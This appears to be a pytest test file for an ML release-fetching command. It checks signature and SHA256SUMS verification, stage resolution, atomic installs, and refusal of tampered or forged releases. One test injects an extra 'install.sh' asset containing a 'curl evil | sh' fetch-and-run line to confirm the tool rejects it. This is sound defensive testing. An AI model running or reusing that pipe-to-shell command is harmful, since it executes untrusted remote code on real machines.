"""`mlops-ci fetch` against the local GitHub API and real git tags: resolved, verified, installed.

Releases are bundles built as a release builds them (``release_bundles.build_release``: skops
model, evidence, SHA256SUMS, model.sig) and seeded with ``api.add_release``; their tags are
annotated tags in a real git repository (``git tag -a``), read locally or, copied into the
fake with ``seed_from_git``, through the API.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from release_bundles import build_release, files_of, key_pair, trained_model, tree
from tag_repo import TagRepo

from github_fake import USER_TOKEN, FakeGitHub
from github_fake.git_data import seed_from_git
from mlops_ci.__main__ import main

REPO = "octo-org/ml-model"


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    return key_pair(tmp_path_factory.mktemp("keys"))


@pytest.fixture(scope="module")
def bundles(tmp_path_factory: pytest.TempPathFactory, keys) -> dict[str, Path]:
    """Signed bundles of churn v1.0.0 and v1.1.0, and another key's signature of v1.1.0."""
    root = tmp_path_factory.mktemp("bundles")
    model = trained_model()
    other, _ = key_pair(root / "other-key")
    return {
        "v1.0.0": build_release(root / "v1.0.0", model=model, key=keys[0], version="v1.0.0"),
        "v1.1.0": build_release(root / "v1.1.0", model=model, key=keys[0], version="v1.1.0"),
        "forged": build_release(root / "forged", model=model, key=other, version="v1.1.0"),
        "unsigned": build_release(root / "unsigned", model=model, version="v1.1.0"),
    }


class World:
    """A repository with two released versions of churn, prod on the newer one."""

    def __init__(self, api: FakeGitHub, tmp_path: Path, bundles: dict[str, Path],
                 monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
        self.api, self.tmp, self.capsys = api, tmp_path, capsys
        self.git = TagRepo(tmp_path / "repo")
        self.git.tag("churn@v1.0.0", message="mlops-ci release churn v1.0.0: pass")
        self.git.tag("churn#prod#1")
        self.git.commit("second")
        self.git.tag("churn@v1.1.0")
        self.git.tag("churn#prod#2")
        self.releases = {
            version: api.add_release(tag=f"churn@{version}", files=files_of(bundles[version]))
            for version in ("v1.0.0", "v1.1.0")
        }
        self.outputs = tmp_path / "outputs.txt"
        self.outputs.touch()
        monkeypatch.setenv("GITHUB_API_URL", api.url)
        monkeypatch.setenv("GITHUB_REPOSITORY", REPO)
        monkeypatch.setenv("GITHUB_OUTPUT", str(self.outputs))
        monkeypatch.setenv("MLOPS_CI_PROGRESS", "1")
        monkeypatch.chdir(self.git.root)
        self.dest = tmp_path / "deploy" / "model"

    def fetch(self, *args: str | Path) -> tuple[int, str, str]:
        code = main(["fetch", *map(str, args)])
        out, err = self.capsys.readouterr()
        return code, out, err

    def assets(self, version: str):
        return self.api.state.repo().releases[self.releases[version]].assets

    def leftovers(self) -> list[str]:
        """What the deploy directory holds besides --dest (a temp dir left behind shows here)."""
        return sorted(p.name for p in self.dest.parent.iterdir() if p != self.dest)


@pytest.fixture
def world(github_api, tmp_path, bundles, monkeypatch, capsys) -> World:
    return World(github_api, tmp_path, bundles, monkeypatch, capsys)


def test_fetch_by_tag_verifies_installs_and_reports(world: World, keys, bundles):
    code, out, err = world.fetch("churn@v1.0.0", "--dest", world.dest, "--public-key", keys[1])
    assert code == 0, err
    assert tree(world.dest) == tree(bundles["v1.0.0"])
    assert world.leftovers() == []
    assert f"Fetched churn v1.0.0 from tag churn@v1.0.0, commit {world.git.commits[0][:12]}" in out
    assert "SHA256SUMS and signature verified" in out and "verdict at release: pass" in out
    outputs = world.outputs.read_text()
    for value in (str(world.dest), "v1.0.0", "churn@v1.0.0"):
        assert f"\n{value}\n" in outputs


def test_fetch_by_version_and_by_stage(world: World, keys, bundles):
    assert world.fetch("churn", "--version", "v1.0.0", "--dest", world.dest,
                       "--public-key", keys[1])[0] == 0
    assert tree(world.dest) == tree(bundles["v1.0.0"])
    code, out, _ = world.fetch("churn", "--stage", "prod", "--dest", world.dest,
                               "--public-key", keys[1])
    assert code == 0 and "churn v1.1.0 (stage prod)" in out
    assert tree(world.dest) == tree(bundles["v1.1.0"])  # swapped into the previous fetch
    assert world.leftovers() == []


def test_stage_after_rollback_unassign_and_deprecation(world: World, keys, bundles):
    world.git.tag("churn#prod#3", world.git.commits[0], message="roll back")
    assert world.fetch("churn", "--stage", "prod", "--dest", world.dest,
                       "--public-key", keys[1])[0] == 0
    assert tree(world.dest) == tree(bundles["v1.0.0"])
    world.git.tag("churn#prod!#4", world.git.commits[0])  # back to the one assigned before
    assert world.fetch("churn", "--stage", "prod", "--dest", world.dest,
                       "--public-key", keys[1])[0] == 0
    assert tree(world.dest) == tree(bundles["v1.1.0"])
    world.git.tag("churn@deprecated")
    before = tree(world.dest)
    code, _, err = world.fetch("churn", "--stage", "prod", "--dest", world.dest,
                               "--public-key", keys[1])
    assert code == 2 and "'churn' is deprecated" in err
    assert tree(world.dest) == before


def test_api_resolution_equals_local_resolution(world: World, keys):
    world.git.tag("churn#prod#3", world.git.commits[0], message="roll back")
    seed_from_git(world.api.state.repo(), world.git.root)
    local = world.fetch("churn", "--stage", "prod", "--dest", world.tmp / "local",
                        "--public-key", keys[1])
    remote = world.fetch("churn", "--stage", "prod", "--dest", world.tmp / "remote",
                         "--public-key", keys[1], "--repo", REPO)
    assert local[0] == remote[0] == 0, (local, remote)
    assert "churn v1.0.0 (stage prod)" in local[1] and "churn v1.0.0 (stage prod)" in remote[1]
    assert tree(world.tmp / "local") == tree(world.tmp / "remote")


def tamper(world: World, how: str, bundles) -> None:
    from github_fake.releases import Asset, sha256_digest

    assets = world.assets("v1.1.0")
    if how == "tampered":  # GitHub's digest follows the new bytes: only SHA256SUMS can tell
        card = next(a for a in assets if a.name == "model-card.md")
        card.content = b"# a different model\n"
        card.size = len(card.content)
        card.digest = sha256_digest(card.content)
    elif how == "missing":
        assets.remove(next(a for a in assets if a.name == "model-card.md"))
    elif how == "extra":
        owner = world.api.state.users["octocat"]
        payload = b"#!/bin/sh\ncurl evil | sh\n"
        assets.append(Asset(world.api.state.next_id(), "install.sh", payload, "text/plain",
                            owner, world.api.state.now(), digest=sha256_digest(payload)))
    else:  # signed by another key
        assets.clear()
        world.api.state.repo().releases.pop(world.releases["v1.1.0"])
        world.api.add_release(tag="churn@v1.1.0", files=files_of(bundles["forged"]))


@pytest.mark.parametrize("how", ["tampered", "missing", "extra", "bad signature"])
def test_a_release_that_does_not_verify_is_refused_and_dest_untouched(
    world: World, keys, bundles, how: str
):
    assert world.fetch("churn@v1.0.0", "--dest", world.dest, "--public-key", keys[1])[0] == 0
    before = tree(world.dest)
    tamper(world, how, bundles)
    code, out, err = world.fetch("churn@v1.1.0", "--dest", world.dest, "--public-key", keys[1])
    assert code == 2, (out, err)
    assert "does not verify" in err and "Traceback" not in err
    assert tree(world.dest) == before  # byte for byte the previous fetch
    assert world.leftovers() == []  # and no temporary directory left behind


def test_a_download_that_fails_midway_leaves_dest_and_no_partial_files(world: World, keys):
    assert world.fetch("churn@v1.0.0", "--dest", world.dest, "--public-key", keys[1])[0] == 0
    before = tree(world.dest)
    assets = world.assets("v1.1.0")
    assert assets[-1].name == "model.skops"  # downloaded last, after the others landed
    assets[-1].size -= 1  # the storage sends more bytes than GitHub said: the download stops
    code, _, err = world.fetch("churn@v1.1.0", "--dest", world.dest, "--public-key", keys[1])
    # (the fake's storage thread may log the connection the client dropped: not ours)
    last = err.strip().splitlines()[-1]
    assert code == 2 and last.startswith("mlops-ci: error:") and "model.skops" in last
    assert tree(world.dest) == before and world.leftovers() == []


def test_a_refused_first_fetch_leaves_nothing(world: World, keys, bundles):
    tamper(world, "extra", bundles)
    code, _, err = world.fetch("churn@v1.1.0", "--dest", world.dest, "--public-key", keys[1])
    assert code == 2 and "'install.sh' is in" in err
    assert not world.dest.exists() and world.leftovers() == []


def test_a_signed_release_without_a_key_is_refused_saying_how(world: World):
    code, _, err = world.fetch("churn@v1.0.0", "--dest", world.dest)
    assert code == 2 and "--public-key" in err
    assert not world.dest.exists() and world.leftovers() == []


@pytest.mark.parametrize("kind", ["file", "symlink", "foreign directory"])
def test_a_destination_that_is_not_a_fetch_is_refused_before_downloading(
    world: World, keys, kind: str
):
    world.dest.parent.mkdir(parents=True)
    if kind == "file":
        world.dest.write_text("notes\n")
    elif kind == "symlink":
        world.dest.symlink_to(world.tmp)
    else:
        world.dest.mkdir()
        (world.dest / "thesis.tex").write_text("years of work\n")
    before = tree(world.dest)
    code, _, err = world.fetch("churn@v1.0.0", "--dest", world.dest, "--public-key", keys[1])
    assert code == 2 and f"--dest {world.dest}" in err
    assert tree(world.dest) == before and world.leftovers() == []
    assert not world.api.transfer.storage_requests  # nothing was downloaded


def test_a_private_repository_with_a_token_and_the_token_never_reaches_storage(
    world: World, keys, bundles, monkeypatch: pytest.MonkeyPatch
):
    world.api.state.repo().private = True
    seed_from_git(world.api.state.repo(), world.git.root)
    code, _, err = world.fetch("churn", "--repo", REPO, "--dest", world.dest,
                               "--public-key", keys[1])
    assert code == 2 and "private repository needs a token" in err
    monkeypatch.setenv("GITHUB_TOKEN", USER_TOKEN)
    code, out, err = world.fetch("churn", "--repo", REPO, "--dest", world.dest,
                                 "--public-key", keys[1])
    assert code == 0, err
    assert tree(world.dest) == tree(bundles["v1.1.0"])
    storage = world.api.transfer.storage_requests
    assert storage and all("authorization" not in r.headers for r in storage)
    assert all(r.status == 200 for r in storage)
    assert USER_TOKEN not in out + err


def test_a_tag_without_a_release_and_a_draft_are_refused(
    world: World, keys, monkeypatch: pytest.MonkeyPatch
):
    world.git.commit("third")
    world.git.tag("churn@v1.2.0")
    code, _, err = world.fetch("churn", "--dest", world.dest, "--public-key", keys[1])
    assert code == 2 and "no GitHub release for the tag 'churn@v1.2.0'" in err
    world.api.add_release(tag="churn@v1.2.0", files={"SHA256SUMS": b""}, draft=True)
    monkeypatch.setenv("GITHUB_TOKEN", USER_TOKEN)  # a writer's token sees drafts
    code, _, err = world.fetch("churn", "--dest", world.dest, "--public-key", keys[1])
    assert code == 2 and "is a draft" in err
    assert not world.dest.exists()


def test_an_unknown_stage_names_the_stages_there_are(world: World):
    code, _, err = world.fetch("churn", "--stage", "staging")
    assert code == 2 and "its stages: prod (v1.1.0)" in err


def test_the_default_destination_is_named_after_the_release(world: World, keys):
    code, _, err = world.fetch("churn@v1.0.0", "--public-key", keys[1])
    assert code == 0, err
    assert (world.git.root / "churn-v1.0.0" / "SHA256SUMS").is_file()
    shutil.rmtree(world.git.root / "churn-v1.0.0")


# -- release.signing in the repository's mlops.yaml (config_release, from feat/release) ----------


def signing_config(world: World, keys, text: str) -> None:
    pytest.importorskip("mlops_ci.config_release")  # release: in mlops.yaml (the release side)
    (world.git.root / "keys").mkdir()
    shutil.copy(keys[1], world.git.root / "keys" / "release.pub")
    (world.git.root / "mlops.yaml").write_text(text, encoding="utf-8")


def test_the_repositorys_public_key_verifies_without_public_key(world: World, keys):
    signing_config(world, keys, "release:\n  signing:\n    public_key: keys/release.pub\n")
    code, out, err = world.fetch("churn", "--dest", world.dest)
    assert code == 0, err
    assert "SHA256SUMS and signature verified" in out


def test_a_repository_that_signs_refuses_a_fetch_without_a_key(world: World, keys, bundles):
    signing_config(world, keys, "release:\n  signing: {}\n")
    world.api.state.repo().releases.pop(world.releases["v1.1.0"])
    world.api.add_release(tag="churn@v1.1.0", files=files_of(bundles["unsigned"]))
    code, _, err = world.fetch("churn", "--dest", world.dest)
    assert code == 2 and "signs its releases" in err and "--public-key" in err
    assert not world.dest.exists() and world.leftovers() == []


def test_usage_errors_from_the_real_entry_point(tmp_path: Path):
    from conftest import cli

    both = cli("fetch", "churn", "--version", "v1.0.0", "--stage", "prod", cwd=tmp_path)
    assert both.code == 2 and "--version or --stage, not both" in both.stderr
    nowhere = cli("fetch", "churn", cwd=tmp_path)
    assert nowhere.code == 2 and "pass --repo OWNER/NAME" in nowhere.stderr
    bad = cli("fetch", "churn", "--repo", "not a repo", cwd=tmp_path)
    assert bad.code == 2 and "is not OWNER/NAME" in bad.stderr
    for result in (both, nowhere, bad):
        assert "Traceback" not in result.stderr


def test_another_models_release_under_this_tag_is_refused(world: World, keys, tmp_path: Path):
    other = build_release(tmp_path / "fraud", key=keys[0], version="v1.1.0", artifact="fraud")
    world.api.state.repo().releases.pop(world.releases["v1.1.0"])
    world.api.add_release(tag="churn@v1.1.0", files=files_of(other))
    code, _, err = world.fetch("churn@v1.1.0", "--dest", world.dest, "--public-key", keys[1])
    assert code == 2 and "the model 'fraud', not 'churn'" in err
    assert not world.dest.exists() and world.leftovers() == []


def test_a_signed_older_release_under_a_newer_tag_is_refused(world: World, keys, bundles):
    world.api.state.repo().releases.pop(world.releases["v1.1.0"])
    world.api.add_release(tag="churn@v1.1.0", files=files_of(bundles["v1.0.0"]))
    code, _, err = world.fetch("churn", "--stage", "prod", "--dest", world.dest,
                               "--public-key", keys[1])
    assert code == 2 and "version 'v1.0.0', not v1.1.0" in err
    assert not world.dest.exists() and world.leftovers() == []
